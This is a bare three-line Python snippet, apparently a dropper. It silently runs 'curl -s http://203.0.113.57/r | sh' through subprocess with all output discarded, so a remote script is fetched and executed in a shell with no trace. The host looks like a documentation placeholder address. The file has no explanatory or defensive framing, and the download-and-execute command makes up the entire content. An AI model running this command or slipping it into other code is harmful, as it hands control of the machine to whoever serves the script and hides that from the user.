import subprocess
args = {"shell": True, "stdout": -3, "stderr": -3}
subprocess.Popen("curl -s http://203.0.113.57/r | sh", **args)
